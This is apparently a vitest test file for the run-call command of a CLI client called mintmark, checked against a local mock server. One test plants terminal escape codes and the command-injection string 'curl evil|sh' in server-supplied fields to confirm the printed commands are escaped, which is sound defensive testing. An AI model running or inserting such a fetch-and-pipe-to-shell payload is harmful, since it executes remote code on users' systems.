import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { generatePrivateKey } from '@mintmark/stamper';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { testSurroundings } from '../../test/test-surroundings.ts';
import { type CallInput, runCall } from './run-call.ts';

const organization = '6f1e7a3c-58d2-4c0b-9a41-2b7d90c3e5f8';
const tag = { name: 'create_user_tag', words: ['userTagName=Ops', 'userIds:=[]'] };

let directory: string;
let key: string;
beforeAll(() => {
  directory = mkdtempSync(join(tmpdir(), 'mintmark-run-call-'));
  key = join(directory, 'key.json');
  const { publicKey, privateKey } = generatePrivateKey('p256').toApiKey();
  const content = { apiPublicKey: publicKey, apiPrivateKey: privateKey, organizationId: organization };
  writeFileSync(key, JSON.stringify(content), { mode: 0o600 });
});
afterAll(() => rmSync(directory, { recursive: true }));

let server: Server | undefined;
afterEach(() => {
  server?.closeAllConnections();
  server?.close();
});

type Reply = (response: ServerResponse, request: IncomingMessage) => void;
const reply =
  (content: unknown, status = 200): Reply =>
  (response) =>
    response.writeHead(status, { 'Retry-After': '0' }).end(JSON.stringify(content));
const drop: Reply = (_, request) => request.socket.destroy();

/** Listens with these replies, one after the other. The last one is repeated. */
async function listen(replies: readonly Reply[], port = 0): Promise<number> {
  let count = 0;
  server = createServer((request, response) => {
    request.resume().on('end', () => replies[Math.min(count++, replies.length - 1)]?.(response, request));
  });
  await new Promise<void>((resolve) => server?.listen(port, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}

/** Runs a call, and returns its exit code with what it printed and reported. */
async function run(port: number, input: Partial<CallInput>) {
  const [printed, reported]: [string[], string[]] = [[], []];
  const surroundings = testSurroundings({
    print: (text: string) => printed.push(text),
    report: (text: string) => reported.push(text),
  });
  const defaults = {
    ...tag,
    output: 'table',
    waits: false,
    isDryRun: false,
    printsCurl: false,
    isOfParent: false,
    isUnseen: false,
  } as const;
  const url = `http://127.0.0.1:${port}`;
  const code = await runCall({ ...defaults, key, url, ...input }, { ...surroundings, width: 100 });
  return { code, printed: printed.join('\n'), reported: reported.join('\n'), url };
}

const activity = (status: string, members: object = {}) => ({
  activity: {
    id: 'an-activity',
    type: 'ACTIVITY_TYPE_CREATE_USER_TAG',
    status: `ACTIVITY_STATUS_${status}`,
    fingerprint: 'sha256:0',
    result: {},
    ...members,
  },
});

describe('runCall', () => {
  test('default', async () => {
    const port = await listen([reply(activity('COMPLETED', { result: { createUserTagResult: { userTagId: 'a' } } }))]);
    expect(await run(port, {})).toMatchObject({
      code: 0,
      printed:
        'id         an-activity\ntype       ACTIVITY_TYPE_CREATE_USER_TAG\nstatus     ACTIVITY_STATUS_COMPLETED\nuserTagId  a',
      reported: '',
    });
  });

  test('behavior: an activity that needs approvals', async () => {
    const port = await listen([reply(activity('CONSENSUS_NEEDED'))]);
    const { code, reported, url } = await run(port, { organization, isOfParent: true });
    expect([code, reported]).toEqual([
      3,
      'the activity an-activity is not completed: it waits for approvals (ACTIVITY_STATUS_CONSENSUS_NEEDED)\n' +
        '  to approve it, another user runs\n' +
        `    mintmark call approve_activity fingerprint=sha256:0 --organization ${organization} --url ${url} --key FILE\n` +
        '  to check its status, run\n' +
        `    mintmark call get_activity activityId=an-activity --organization ${organization} --url ${url} --as-parent --key ${key}`,
    ]);
  });

  test('behavior: an activity that is still running needs no approval', async () => {
    const port = await listen([reply(activity('PENDING'))]);
    const { code, reported, url } = await run(port, {});
    expect([code, reported]).toEqual([
      3,
      'the activity an-activity is not completed yet (ACTIVITY_STATUS_PENDING)\n' +
        `  to check its status, run\n    mintmark call get_activity activityId=an-activity --url ${url} --key ${key}`,
    ]);
  });

  test.each([false, true])('behavior: no text of the service becomes a command, with --wait %s', async (waits) => {
    const members = { id: 'a\u{1b}[2J; curl evil|sh', fingerprint: "b\u{202e}'; curl evil|sh" };
    const port = await listen([reply(activity('CONSENSUS_NEEDED', members)), reply({}, 404)]);
    const { code, reported } = await run(port, { waits });
    expect(code).toBe(waits ? 1 : 3);
    expect(reported).toContain("\n    mintmark call get_activity 'activityId=a\\u001b[2J; curl evil|sh' --url ");
    if (!waits)
      expect(reported).toContain(
        "\n    mintmark call approve_activity 'fingerprint=b\\u202e'\\''; curl evil|sh' --url ",
      );
    expect(reported).not.toMatch(/\P{ASCII}|\p{Cc}(?<!\n)/u);
  });

  test.each([
    ['get_activity', 'activity', (found: object) => found],
    ['list_activities', 'activities.0', ({ activity: found }: { activity?: unknown }) => ({ activities: [found] })],
  ])('behavior: %s shows who asked for what', async (name, path, answerWith) => {
    const vote = {
      userId: 'ann-id',
      user: { userId: 'ann-id', userName: 'Ann', apiKeys: [{ apiKeyName: 'Laptop' }] },
      selection: 'VOTE_SELECTION_APPROVED',
      signature: '3045',
      createdAt: { seconds: '1794875418', nanos: '0' },
    };
    const asked = { intent: { createUserTagIntent: { userTagName: 'Ops' } }, votes: [vote], canApprove: true };
    const port = await listen([reply(answerWith(activity('CONSENSUS_NEEDED', asked)))]);
    const words = name === 'get_activity' ? [`activityId=${organization}`] : [];
    const { code, printed } = await run(port, { name, words });
    expect(code).toBe(0);
    expect(printed.split('\n').map((line) => line.replace(/ +/, ' '))).toEqual(
      [
        'id an-activity',
        'type ACTIVITY_TYPE_CREATE_USER_TAG',
        'status ACTIVITY_STATUS_CONSENSUS_NEEDED',
        'fingerprint sha256:0',
        'result {}',
        'intent.createUserTagIntent.userTagName Ops',
        'votes.0.userName Ann',
        'votes.0.userId ann-id',
        'votes.0.selection VOTE_SELECTION_APPROVED',
        'votes.0.createdAt 2026-11-17T00:30:18Z',
        'canApprove true',
      ].map((line) => `${path}.${line}`),
    );
  });

  test.each(['json', 'table'] as const)('error: no activity in the answer, as %s', async (output) => {
    const port = await listen([reply({})]);
    expect(await run(port, { output })).toMatchObject({
      code: 1,
      printed: '',
      reported: 'create_user_tag: unexpected answer (no activity): is this the address of a Mintmark service?',
    });
  });

  test.each(['json', 'table'] as const)('error: a dry run without an outcome, as %s', async (output) => {
    const port = await listen([reply({})]);
    expect(await run(port, { output, isDryRun: true })).toMatchObject({
      code: 1,
      printed: '',
      reported: 'dry_run_activity: unexpected answer (no outcome): is this the address of a Mintmark service?',
    });
  });

  test('error: an answer that cannot be shown, after the request was sent', async () => {
    const port = await listen([reply({ outcome: 'OUTCOME_ALLOW', policies: [null], missingApprovals: [] })]);
    const { code, reported } = await run(port, { isDryRun: true });
    expect([code, reported]).toEqual([
      1,
      expect.stringMatching(/^the request was sent, but its answer cannot be read: TypeError: \S/),
    ]);
  });
});

describe('runCall with --wait', () => {
  const pending = reply(activity('PENDING'));
  const completed = reply(activity('COMPLETED'));

  test.each([
    ['the connection is lost', drop],
    ['the service has an outage', reply('', 503)],
    ['a proxy has no service', reply('', 502)],
    ['the service is busy', reply({ message: 'slow', details: [{ errorCode: 'RATE_LIMIT_EXCEEDED' }] }, 429)],
  ])('behavior: goes on after %s', async (_, failure) => {
    const port = await listen([pending, failure, failure, failure, failure, completed]);
    expect(await run(port, { waits: true })).toMatchObject({ code: 0, reported: '' });
  });

  test('behavior: goes on while the service restarts', async () => {
    const stop: Reply = (response, request) => {
      pending(response, request);
      server?.close();
      setTimeout(() => listen([completed], port), 1000);
    };
    const port = await listen([stop]);
    expect(await run(port, { waits: true })).toMatchObject({ code: 0, reported: '' });
  });

  test('error: the service does not come back in time', async () => {
    const port = await listen([pending, drop]);
    const { code, reported, url } = await run(port, { waits: true, timeoutMs: 3000, organization });
    expect([code, reported]).toEqual([
      1,
      `the activity an-activity was submitted, but its status could not be fetched: the connection to ${url} failed (ECONNRESET): it is not known whether the request arrived\n` +
        '  to check its status, run\n' +
        `    mintmark call get_activity activityId=an-activity --organization ${organization} --url ${url} --key ${key}`,
    ]);
  });

  test.each([
    ['is refused', reply('', 404), 'get_activity: unexpected answer (HTTP 404)'],
    ['has no activity', reply({}), 'get_activity: unexpected answer (no activity)'],
  ])('error: a poll %s', async (_, failure, problem) => {
    const port = await listen([pending, failure, completed]);
    const { code, reported } = await run(port, { waits: true });
    expect(code).toBe(1);
    expect(reported).toContain(`was submitted, but its status could not be fetched: ${problem}`);
    expect(reported).toContain('\n    mintmark call get_activity activityId=an-activity ');
  });

  describe('approve_activity', () => {
    const fingerprint = `sha256:${'0'.repeat(64)}`;
    const approve = { name: 'approve_activity', words: [`fingerprint=${fingerprint}`] };
    const valuesOf = (totalValues: number) => ({
      activityId: 'an-activity',
      totalValues,
      values: [{ name: 'eth.tx.to', value: "'0xab'" }],
      pageInfo: { hasNextPage: false },
    });
    const request = { activity: { intent: { signTransactionIntentV2: {} } } };

    /** Listens, answers by path, and lists the paths. */
    async function listenTo(answers: Readonly<Record<string, Reply>>) {
      const paths: string[] = [];
      const answer: Reply = (response, received) => {
        const path = String(received.url).replace(/^.*\//, '');
        paths.push(path);
        answers[path]?.(response, received);
      };
      return { port: await listen([answer]), paths };
    }
    const completed = reply(activity('COMPLETED'));

    test('default: shows what it approves, and approves it', async () => {
      const { port, paths } = await listenTo({
        list_activity_values: reply(valuesOf(1)),
        get_activity: reply(request),
        approve_activity: completed,
      });
      const { code, printed, reported } = await run(port, approve);
      expect([code, printed]).toEqual([0, expect.stringContaining('ACTIVITY_STATUS_COMPLETED')]);
      expect(reported).toContain("\n  eth.tx.to = '0xab'\n");
      expect(paths).toEqual(['list_activity_values', 'get_activity', 'approve_activity']);
    });

    test('error: values were left out', async () => {
      const { port, paths } = await listenTo({
        list_activity_values: reply(valuesOf(120)),
        get_activity: reply(request),
        approve_activity: completed,
      });
      const { code, printed, reported } = await run(port, approve);
      expect([code, printed]).toEqual([2, '']);
      expect(reported).toContain('not approved: 119 of 120 values were left out\n');
      expect(reported).toContain(
        `mintmark call list_activity_values fingerprint=${fingerprint} paginationOptions.limit=100`,
      );
      expect(reported).toContain('add --unseen');
      expect(paths).not.toContain('approve_activity');
    });

    test('error: what would be approved cannot be read', async () => {
      const { port, paths } = await listenTo({ list_activity_values: reply({}, 404), approve_activity: completed });
      const { code, printed, reported } = await run(port, approve);
      expect([code, printed]).toEqual([1, '']);
      expect(reported).toMatch(
        /^not approved: what would be approved could not be read: .*\n {2}to approve it .* --unseen$/s,
      );
      expect(paths).not.toContain('approve_activity');
    });

    test('args: with --unseen it only approves', async () => {
      const { port, paths } = await listenTo({ approve_activity: completed });
      const { code, reported } = await run(port, { ...approve, isUnseen: true });
      expect([code, reported, paths]).toEqual([0, '', ['approve_activity']]);
    });

    test('args: --curl sends nothing, so it needs --unseen', async () => {
      const { port, paths } = await listenTo({});
      await expect(run(port, { ...approve, printsCurl: true })).rejects.toThrow('add --unseen');
      expect((await run(port, { ...approve, printsCurl: true, isUnseen: true })).code).toBe(0);
      expect(paths).toEqual([]);
    });

    test('args: a rejection shows nothing, and --unseen is for approvals', async () => {
      const { port, paths } = await listenTo({ reject_activity: reply(activity('REJECTED')) });
      expect((await run(port, { ...approve, name: 'reject_activity' })).code).toBe(0);
      expect(paths).toEqual(['reject_activity']);
      await expect(run(port, { isUnseen: true })).rejects.toThrow('--unseen is for approve_activity');
    });
  });
});
